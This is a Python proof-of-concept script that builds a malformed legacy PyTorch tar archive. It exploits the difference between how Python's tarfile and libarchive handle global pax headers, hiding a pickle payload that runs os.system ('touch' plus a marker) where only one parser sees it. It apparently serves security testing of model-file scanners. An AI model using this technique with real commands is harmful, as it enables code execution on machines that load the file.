"""Legacy torch tar: a global pax header (g) says size=512; a per-file pax header (x, a comment only) and
then storages (header size 0). tarfile starts each x header from the global records, so storages is 512
bytes; libarchive does not apply g records (0 bytes) and reads the data block as the next header.
usage: python3 tar_global_pax.py OUT MARKER"""
import sys

def header(name, size, typeflag=b"0"):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = typeflag
    b[257:263] = b"ustar\0"
    b[263:265] = b"00"
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    r1, r2 = b"12 size=512\n", b"16 comment=abcd\n"
    blocks = [header(b"GlobalHead", len(r1), b"g"), pad(r1),
              header(b"PaxHeader/2", len(r2), b"x"), pad(r2),
              header(b"storages", 0),
              header(payload, 0)]      # tarfile: storages' 512 bytes; libarchive: a header
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
